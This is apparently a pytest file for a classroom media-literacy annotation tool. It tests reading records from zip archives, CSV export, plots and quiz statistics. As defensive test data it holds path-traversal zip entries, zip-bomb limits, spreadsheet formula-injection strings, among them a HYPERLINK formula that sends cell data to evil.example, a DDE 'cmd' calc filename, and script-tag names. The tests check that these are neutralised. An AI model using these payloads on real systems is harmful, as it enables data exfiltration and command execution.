    assert data.learners == ("Ada", "Bo") and data.skipped == []
    assert data.articles[A0].paths[1] == tmp_path / "group-b" / "Bo" / f"Bo__{A0}.json"
    assert data.ignored == ["notes.docx"]
    text = C.summary_text(C.class_statistics(data))
    assert "Not read: 1 other file (only .json records and .zip archives are read): notes.docx" in text
    assert tables.skipped_rows(data) == [{"file": "notes.docx", "kind": "not-read",
                                     "reason": "not a .json record or a .zip archive"}]
    run_class(tmp_path, plots=False, stream=io.StringIO())               # writes tmp_path/class-report/
    assert (tmp_path / C.REPORT_FOLDER / "sentences.csv").is_file()
    assert C.load_class(tmp_path).ignored == ["notes.docx"]                # its own report is not "not read"


def _zip(path: Path, members: dict) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in members.items():
            z.writestr(name, content if isinstance(content, (bytes, str)) else json.dumps(content))
    return path


def _tree(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_records_inside_zips_are_read_in_memory_and_nothing_is_extracted(tmp_path, art0):
    folder = tmp_path / "class"
    folder.mkdir()
    ada = record(art0, "Ada", [(5, "hedge")])
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr(f"Cy/annotations/Cy__{A0}.json", json.dumps(record(art0, "Cy", [(7, "opinion")]).to_dict()))
    _zip(folder / "download.zip", {
        f"Ada/annotations/Ada__{A0}.json": ada.to_dict(),
        f"Bo/annotations/Bo__{A0}.json": record(art0, "Bo", [(6, "hedge")]).to_dict(),
        f"../../escaped__{A0}.json": record(art0, "Di", [(8, "booster")]).to_dict(),
        "__MACOSX/Ada/._Ada.json": b"\0\5\26\7",
        "Cy/upload.zip": inner.getvalue(),
        "Bo/readme.txt": "hello",
        "Ed/broken.json": '{"format": ',
    })
    write(folder, ada)                                                  # the same record, loose as well
    before = _tree(tmp_path)
    data = C.load_class(folder)
    assert _tree(tmp_path) == before                                    # nothing written anywhere
    assert data.learners == ("Ada", "Bo", "Cy", "Di") and data.zips == 2
    assert data.articles[A0].marks[data.articles[A0].learners.index("Cy"), 7, SENTENCE_LABELS.index("opinion")]
    skipped = {s.name: s for s in data.skipped}
    assert set(skipped) == {f"download.zip/Ada/annotations/Ada__{A0}.json", "download.zip/Ed/broken.json"}
    dup = skipped[f"download.zip/Ada/annotations/Ada__{A0}.json"]
    assert dup.kind == "duplicate" and dup.reason == f"the same record as Ada__{A0}.json (an identical copy), counted once"
    assert skipped["download.zip/Ed/broken.json"].kind == "unreadable"
    assert data.ignored == ["download.zip/Bo/readme.txt"]
    assert f"download.zip/escaped__{A0}.json" in [str(p.relative_to(folder)) for p in data.articles[A0].paths]
    text = C.summary_text(C.class_statistics(data))
    assert "Records were also read from 2 zip archives (in memory; nothing was unpacked to disk)." in text
    assert f"download.zip/Ada/annotations/Ada__{A0}.json: the same record as" in text


def test_zip_limits_against_zip_bombs(tmp_path, art0, monkeypatch):
    monkeypatch.setattr(files, "MAX_ZIP_MEMBERS", 9)
    monkeypatch.setattr(files, "MAX_RECORD_BYTES", 4_000)
    monkeypatch.setattr(files, "MAX_UNZIPPED_BYTES", 12_000)
    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
    _zip(tmp_path / "many.zip", {f"x{i}.json": "{}" for i in range(10)})
    _zip(tmp_path / "bomb.zip", {"zeros.json": b"0" * 1_000_000})         # 1 MB of zeros packs into 1 KB
    _zip(tmp_path / "budget.zip", {f"{who}.json": {**_good(art0, who), "pad": "x" * 3000}
                                   for who in ("Bo", "Cy", "Di", "Ed", "Fay")})
    (tmp_path / "fake.zip").write_bytes(b"this is not a zip")
    raw = bytearray(_zip(tmp_path / "locked.zip", {"secret.json": "{}"}).read_bytes())
    for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):            # mark it encrypted, as a password does
        i = raw.index(sig)
        raw[i + at] |= 0x1
    (tmp_path / "locked.zip").write_bytes(bytes(raw))
    deepest = _zip(tmp_path / "z3.zip", {"Gus.json": _good(art0, "Gus")}).read_bytes()
    middle = io.BytesIO()
    with zipfile.ZipFile(middle, "w") as z:
        z.writestr("z3.zip", deepest)
    (tmp_path / "z3.zip").unlink()
    _zip(tmp_path / "z1.zip", {"z2.zip": middle.getvalue()})
    _zip(tmp_path / "zz.zip", {"a.json": "{}", "b.json": "{}"})       # 9 files listed before it: 11 > 9
    data = C.load_class(tmp_path)
    by = {s.name: (s.kind, s.reason) for s in data.skipped}
    assert by["many.zip"] == ("zip", "lists 10 files, more than a class needs (at most 9): not opened (a safety limit)")
    assert by["zz.zip"] == ("zip", "not opened: the zip archives together list more than 9 files (a safety limit)")
    assert by["bomb.zip/zeros.json"] == ("unreadable", "too large for a learner's record (1,000,000 bytes unpacked)")
    assert by["fake.zip"][0] == "zip" and by["fake.zip"][1].startswith("not a readable zip archive")
    assert by["locked.zip/secret.json"] == ("zip", "is encrypted (the zip has a password): cannot be read")
    assert by["z1.zip/z2.zip/z3.zip"][0] == "zip" and "zip inside a zip inside a zip" in by["z1.zip/z2.zip/z3.zip"][1]
    over = [name for name, (kind, why) in by.items() if "zip bombs" in why]
    assert over and all(n.startswith("budget.zip/") for n in over)      # the budget ran out, said so
    assert 1 <= len(data.learners) - 1 < 5                              # some of budget.zip fitted, not all


def test_a_zip_larger_than_the_limit_is_not_read(tmp_path, art0, monkeypatch):
    monkeypatch.setattr(files, "MAX_ZIP_BYTES", 1_000)
    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
    big = _zip(tmp_path / "big.zip", {f"{w}.json": _good(art0, w) for w in ("Bo", "Cy", "Di")})
    assert big.stat().st_size > 1_000
    data = C.load_class(tmp_path)
    assert data.learners == ("Ada",)
    [skip] = data.skipped
    assert (skip.name, skip.kind) == ("big.zip", "unreadable")
    assert skip.reason == f"too large for a zip of learner records ({big.stat().st_size:,} bytes)"


def test_zip_members_are_read_no_further_than_the_limit(tmp_path, monkeypatch):
    """Whatever sizes a zip claims, at most limit + 1 bytes are unpacked per record."""
    monkeypatch.setattr(files, "MAX_RECORD_BYTES", 1_000)
    zf = zipfile.ZipFile(_zip(tmp_path / "z.zip", {"a.json": b"1" * 50_000}))
    info = zf.getinfo("a.json")
    object.__setattr__(info, "file_size", 10)                          # the zip lies about its size
    search = files.Search(tmp_path)
    with pytest.raises(files.Unusable, match="cannot be unpacked .BadZipFile: Bad CRC-32"):
        files.unzip(search, zf, info, files.MAX_RECORD_BYTES, "a record")
    assert search.unzipped == 0                                          # stopped at the claimed 10 bytes
    object.__setattr__(info, "file_size", 50_000)                      # the truth, past the limit
    with pytest.raises(files.Unusable, match="too large for a record .50,000 bytes unpacked"):
        files.unzip(search, zf, info, files.MAX_RECORD_BYTES, "a record")
    object.__setattr__(info, "file_size", 900)                         # a smaller lie: read stops at 1,001
    with pytest.raises(files.Unusable):
        files.unzip(search, zf, info, files.MAX_RECORD_BYTES, "a record")
    assert search.unzipped <= 1_001


def test_the_same_record_loose_and_zipped_counts_once_and_older_copies_lose(tmp_path, art0):
    old = record(art0, "Ada", [(5, "hedge")])
    old.updated = "2024-01-01T12:00:00+02:00"
    new = record(art0, "Ada", [(6, "hedge")])
    new.updated = "2024-01-01T11:00:00+00:00"                           # later, in another time zone
    write(tmp_path, new, "ada-new.json")
    _zip(tmp_path / "old.zip", {"ada-old.json": old.to_dict()})
    data = C.load_class(tmp_path)
    [skip] = data.skipped
    assert skip.name == "old.zip/ada-old.json" and skip.kind == "duplicate"
    assert "the newer one (ada-new.json) is counted instead" in skip.reason
    assert data.articles[A0].marks[0, 6].any() and not data.articles[A0].marks[0, 5].any()


def test_a_folder_holding_only_a_zip_works_from_the_command_line(tmp_path, art0, capsys):
    from medialit.cli import main

    folder = tmp_path / "class"
    folder.mkdir()
    _zip(folder / "hand-in.zip", {f"{w}/{w}__{A0}.json": _good(art0, w) for w in ("Ada", "Bo")})
    assert main(["class", str(folder), "--out", str(tmp_path / "out"), "--no-plots"]) == 0
    printed = capsys.readouterr().out
    assert "Learners: 2" in printed and "zip archive" in printed
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "README.txt").write_text("x", encoding="utf-8")
    assert main(["class", str(empty)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no .json records or .zip archives in it or its subfolders" in err


# ---------------------------------------------------------------------------
# CSV cells that a spreadsheet would run as formulas
# ---------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1",
            "＝1+1"]


def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_stay_numbers(tmp_path, art0):
    folder = tmp_path / "class"
    folder.mkdir()
    for i, name in enumerate(FORMULAS):
        write(folder, record(art0, name, [(5 + i % 2, "hedge")]), f"learner{i}.json")
    write(folder, record(art0, "Ada", [(1, "booster"), (2, "booster"), (3, "booster")]), "ada.json")
    write(folder, record(art0, "Bo", [(4, "booster"), (5, "booster"), (6, "booster")]), "bo.json")
    (folder / "=cmd|' -C calc'!A0.json").write_text("{}", encoding="utf-8")
    report = C.class_statistics(C.load_class(folder))
    C.write_report(report, tmp_path / "out")
    with open(tmp_path / "out" / "learner_scores.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    names = {r["learner"] for r in rows}
    assert names == {"'" + n for n in FORMULAS} | {"Ada", "Bo"}
    for r in rows:                                                    # numbers stay numbers
        assert r["tp"].isdigit() and (r["f1"] == "" or 0 <= float(r["f1"]) <= 1)
    with open(tmp_path / "out" / "agreement.csv", newline="", encoding="utf-8") as fh:
        booster = next(r for r in csv.DictReader(fh) if r["label"] == "booster")
    assert float(booster["fleiss_kappa"]) < 0 and booster["fleiss_kappa"].startswith("-0.")   # not "'-0.…"
    skipped = (tmp_path / "out" / "skipped.csv").read_text(encoding="utf-8")
    assert "'=cmd|' -C calc'!A0.json" in skipped
    for path in (tmp_path / "out").glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(tuple(tables.FORMULA_STARTS)) or _is_number(cell), (path.name, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_brat_export_gives_every_learner_their_own_file(tmp_path, art0):
    (tmp_path / "class").mkdir()
    for i, name in enumerate(("a/b", "a_b", "$$$", "===")):
        write(tmp_path / "class", record(art0, name, [(5 + i, "hedge")]), f"l{i}.json")
    data = C.load_class(tmp_path / "class")
    anns = C.export_brat(data, tmp_path / "brat")
    assert len(anns) == len(set(anns)) == 4                             # no learner overwrote another
    marked = {ann.read_text(encoding="utf-8").split("\t")[1].split()[1] for ann in anns}
    assert len(marked) == 4


# ---------------------------------------------------------------------------
# Plots: plain text only (no mathtext, no TeX), with a text alternative
# ---------------------------------------------------------------------------

HOSTILE_NAMES = ["$x^2$", "a_b^c\\d$", "$$", "$\\frac{1}{0}$", "cost: $5 and $6", "<b>\"Zoë\"</b> & co"]


@pytest.fixture
def hostile(tmp_path, art0):
    """Learners named with $, _, ^ and \\, on a seed article and on one whose headline is full of them."""
    text = "Prices $rise$ 5% to $10 \\alpha_1^2 $^$\n\nThe minister said it may rain. Perhaps not. (AP)\n"
    art = parse_article(text, id="dollars")
    folder = tmp_path / "hostile"
    folder.mkdir()
    for i, name in enumerate(HOSTILE_NAMES):
        rec = AnnotationRecord.new("dollars", text, name)
        j = text.index("Perhaps")
        if i % 2:
            rec.add_span(j, j + 7, "hedge")
        write(folder, rec, f"l{i}.json")
        write(folder, record(art0, name, [(5, "hedge"), (3 + i % 3, "attribution")]), f"s{i}.json")
    return C.class_statistics(C.load_class(folder, articles={"dollars": art, A0: art0}))


def test_matplotlib_itself_chokes_on_such_text():
    from matplotlib.figure import Figure

    fig = Figure()
    fig.text(0, 0, "$\\frac{1}{0}$ and $^$")
    with pytest.raises(ValueError):
        fig.savefig(io.BytesIO(), format="png")


def test_dollars_in_names_and_headlines_never_reach_mathtext(hostile):
    import matplotlib
    from matplotlib.text import Text

    from medialit import plots

    for fig in (plots.disagreement_map(hostile, "dollars"), plots.agreement_bars(hostile)):
        png = fig._png()
        assert png[:8] == b"\x89PNG\r\n\x1a\n"
        assert all(not t.get_parse_math() for t in fig.findobj(Text))
        assert any("$rise$ 5% to $10" in t.get_text() for t in fig.findobj(Text))      # the headline, as typed
    grid = plots.learner_grid(hostile)
    grid._png()
    labels = [t.get_text() for t in grid.axes[0].get_yticklabels()]
    assert set(labels) == set(HOSTILE_NAMES)                              # shown as typed
    with matplotlib.rc_context({"text.usetex": True}):                   # even if someone switched TeX on
        plots.learner_grid(hostile)._png()


def test_class_plots_describe_themselves_in_words(hostile, demo):
    import html
    import statistics

    from medialit import plots

    report = C.class_statistics(C.load_class(demo))
    fig = plots.f1_distribution(report)
    overall = sorted(s.f1 for s in report.scores if s.label == "overall")
    assert f"How close the 12 learners are to the answer key: F1 over all labels has median " \
           f"{statistics.median(overall):.2f} (lowest {overall[0]:.2f}, highest {overall[-1]:.2f}" in fig.alt
    bars = plots.agreement_bars(report)
    for a in report.agreement_on(A0):
        assert f"{a.label} {a.fleiss:.2f} ({a.words})" in bars.alt
    grid = plots.learner_grid(report, pseudonyms=True)
    assert "synthetic-learner" not in grid.alt and "Learner " in grid.alt
    det = C.detector_labels(report.data.articles[A0].article)[0]
    assert f"The detector found {int(det.sum())} sentence labels" in plots.class_vs_detector(report, A0, det).alt
    dmap = plots.disagreement_map(report, A3)
    top = min((s for s in report.sentences if s.article_id == A3 and s.disagreement >= 0.1),
              key=lambda s: (-s.disagreement, s.sentence))
    assert f"Most split: sentence {top.sentence} (" in dmap.alt
    assert f"{top.disputed_label} marked by {round(100 * top.shares[top.disputed_label])}%)" in dmap.alt
    hostile_grid = plots.learner_grid(hostile)
    data, meta = hostile_grid._repr_mimebundle_()
    assert data["text/plain"] == hostile_grid.alt == meta["image/png"]["alt"]
    assert data["text/html"].startswith('<img src="data:image/png;base64,' + data["image/png"][:40])
    fig = plots.ClassFigure(figsize=(1, 1))
    fig.alt = 'Top: <b>"Zoë"</b> & <script>alert(1)</script>'
    data, meta = fig._repr_mimebundle_()
    [alt] = re.findall(r'alt="([^"]*)"', data["text/html"])             # quotes inside are escaped
    assert html.unescape(alt) == fig.alt
    assert "<b>" not in data["text/html"] and "<script>" not in data["text/html"]
    assert data["text/plain"] == meta["image/png"]["alt"] == fig.alt


def test_saved_plots_carry_their_description(small, tmp_path):
    from PIL import Image

    from medialit import plots

    report = C.class_statistics(C.load_class(small))
    paths, _ = plots.save_all(report, tmp_path / "out", parallel=False)
    described = {}
    for path in paths:
        with Image.open(path) as im:
            described[path.name] = im.info["Description"]
    assert described == {f"disagreement-{A0}.png": plots.disagreement_map(report, A0).alt,
                         "agreement.png": plots.agreement_bars(report).alt,
                         "f1.png": plots.f1_distribution(report).alt,
                         "learners.png": plots.learner_grid(report).alt}
    assert described["f1.png"].startswith("How close the 2 learners are to the answer key: F1 over all labels")


# ---------------------------------------------------------------------------
# Written answers and quiz tries (issue 10)
# ---------------------------------------------------------------------------

def _question(qid: str):
    from medialit.selfcheck import check, questions

    q = questions()[qid]
    right = next(c for c in q.choices if check(qid, c).right)
    return q, right, [c for c in q.choices if c != right]


def test_written_answers_appear_next_to_the_learners_marks(tmp_path, art0):
    folder = tmp_path / "class"
    folder.mkdir()
    ada = record(art0, "Ada", [(1, "attribution"), (5, "hedge")])
    ada.set_answer("05-w-headline-000", "One senator, Viktor Ozerov, said it.")
    write(folder, ada)
    bo = record(art0, "Bo")                                     # wrote, but marked nothing on 000
    bo.set_answer("01-w-missing-piece-000", "The publisher.")
    write(folder, bo)
    write(folder, record(art0, "Cy", [(1, "attribution")]))    # marked, wrote nothing
    data = C.load_class(folder)
    assert data.articles[A0].learners == ("Ada", "Cy")         # Bo's record holds no marks: not 'no label'
    assert [r.annotator for r in data.work] == ["Ada", "Bo"]
    report = C.class_statistics(data)
    rows = tables.answer_rows(report)
    assert [(r["learner"], r["task"], r["marks_on_article"], r["words"]) for r in rows] == [
        ("Ada", "05-w-headline-000", 2, 6), ("Bo", "01-w-missing-piece-000", None, 2)]
    assert rows[0]["answer"] == "One senator, Viktor Ozerov, said it." and rows[0]["f1_overall"] is not None
    table = tables.written_answers_table(report, pseudonyms=True)
    assert set(table["learner"]) == {data.pseudonyms()["Ada"], data.pseudonyms()["Bo"]}
    assert "2 written answers from 2 learners" in C.summary_text(report)
    written = C.write_report(report, tmp_path / "out")
    assert tmp_path / "out" / "written_answers.csv" in written
    with open(tmp_path / "out" / "written_answers.csv", newline="", encoding="utf-8") as fh:
        assert [r["answer"] for r in csv.DictReader(fh)] == [r["answer"] for r in rows]


def test_first_try_accuracy_per_question_and_per_learner(tmp_path, art0):
    folder = tmp_path / "class"
    folder.mkdir()
    q, right, wrong = _question("02-chain-order")
    q2, right2, wrong2 = _question("05-ozerov-role")
    tries = {"Ada": [(q, right), (q2, wrong2[0]), (q2, right2)],   # right first; wrong, then right
             "Bo": [(q, wrong[0]), (q, wrong[1]), (q, right)],   # right at the third try
             "Cy": [(q, wrong[0])]}                              # never right
    for who, made in tries.items():
        rec = record(art0, who, [(1, "attribution")])
        for question, choice in made:
            rec.add_attempt(question.id, choice)
        rec.add_attempt("99-no-such-question", "x")             # a question the kit no longer has
        write(folder, rec)
    report = C.class_statistics(C.load_class(folder))
    by_q = {r["question"]: r for r in tables.question_try_rows(report)}
    assert (by_q["02-chain-order"]["learners"], by_q["02-chain-order"]["right_first_try"],
            by_q["02-chain-order"]["right_in_the_end"], by_q["02-chain-order"]["tries"]) == (3, 1, 2, 5)
    assert by_q["02-chain-order"]["first_try_accuracy"] == round(1 / 3, 4)
    assert (by_q["05-ozerov-role"]["right_first_try"], by_q["05-ozerov-role"]["right_in_the_end"]) == (0, 1)
    by_l = {r["learner"]: r for r in tables.learner_try_rows(report)}
    assert {n: (r["questions"], r["right_first_try"]) for n, r in by_l.items()} == {
        "Ada": (2, 1), "Bo": (1, 0), "Cy": (1, 0)}
    text = C.summary_text(report)
    assert "02-chain-order" in text and "1/3 (33%), right in the end 2/3" in text
    assert "3 quiz tries at questions the kit no longer has could not be graded" in text


def test_answers_that_start_a_formula_are_neutralised_in_the_csv(tmp_path, art0):
    folder = tmp_path / "class"
    folder.mkdir()
    for i, text in enumerate(FORMULAS):
        rec = record(art0, f"L{i}", [(1, "attribution")])
        rec.set_answer("05-w-headline-000", text)
        write(folder, rec)
    C.write_report(C.class_statistics(C.load_class(folder)), tmp_path / "out")
    with open(tmp_path / "out" / "written_answers.csv", newline="", encoding="utf-8") as fh:
        answers = [r["answer"] for r in csv.DictReader(fh)]
    assert len(answers) == len(FORMULAS)
    saved = [f.strip() for f in FORMULAS]                               # an answer is saved trimmed
    assert answers == [("'" + t if t.startswith(tables.FORMULA_STARTS) else t) for t in saved]
    assert not any(a.startswith(tables.FORMULA_STARTS) for a in answers)


def test_the_demo_class_has_written_answers_and_quiz_tries(demo):
    data = C.load_class(demo)
    report = C.class_statistics(data)
    answers, asked = tables.answer_rows(report), tables.question_try_rows(report)
    assert len(answers) > 12 and len({r["task"] for r in answers}) >= 5
    from medialit.tasks import written_tasks

    samples = {lv.sample for t in written_tasks().values() for lv in t.levels}
    assert all(r["answer"] in samples for r in answers)                 # the rubric's samples, made up
    assert len(asked) > 20 and all(0 <= r["first_try_accuracy"] <= 1 for r in asked)
    assert any(r["right_first_try"] < r["right_in_the_end"] for r in asked)
    assert "SYNTHETIC" in (demo / "README.txt").read_text(encoding="utf-8")
    # Label Studio and brat exports still work on records that carry answers and tries
    assert len(C.label_studio_tasks(data)) == len(data.articles)
